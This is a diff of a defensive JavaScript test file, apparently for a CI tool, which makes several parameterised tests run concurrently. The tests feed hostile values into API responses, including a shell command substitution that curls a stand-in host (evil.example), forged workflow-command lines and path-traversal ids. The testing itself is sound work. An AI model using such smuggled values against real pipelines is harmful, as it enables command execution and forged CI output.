@@ -21,7 +21,7 @@ const POISON = [
 const OWN_COMMANDS = ['add-mask', 'debug', 'error', 'warning', 'notice'];
 
 describe('hostile text in an error of the service', () => {
-  it.each([
+  it.concurrent.each([
     [
       'in every field',
       { error: POISON, errorCode: POISON, detail: POISON, reason: POISON, parameters: [POISON] },
@@ -65,7 +65,7 @@ describe('hostile text in a key', () => {
     expectNothingForged({ ...assigned, main: { ...assigned.main, outputs: {} } });
   });
 
-  it.each([
+  it.concurrent.each([
     ['an id that is a path', { id: '../../../../orgs/0123456789abcdef01234567' }],
     ['an id that is a query', { id: '0123456789abcdef01234567?x=' }],
     ['an id with a line break', { id: '0123456789abcdef01234567\n' }],
@@ -89,7 +89,7 @@ describe('hostile text in a key', () => {
     );
   });
 
-  it.each([
+  it.concurrent.each([
     ['a public key that is a command', { publicKey: 'a\n::error::forged' }],
     ['a private key that is a shell script', { privateKey: '$(curl evil.example/0123456789)' }],
     ['a private key with a line break', { privateKey: '0123456789abcdef\nresult=forged' }],
@@ -103,7 +103,7 @@ describe('hostile text in a key', () => {
       answer.body = JSON.stringify({ ...JSON.parse(answer.body), ...change });
     });
     const result = await attack(scene, origin, {}, { debug: true });
-    expectDefeat(scene, result, /the answer \(200\) is not what the API documents/, 6);
+    expectDefeat(scene, result, /the answer \(200\) is not what the API documents/);
     expectNothingForged(result);
     expect(keysBeside(scene)).toEqual([]);
     expect(result.main.outputs.privateKey ?? '').toBe('');
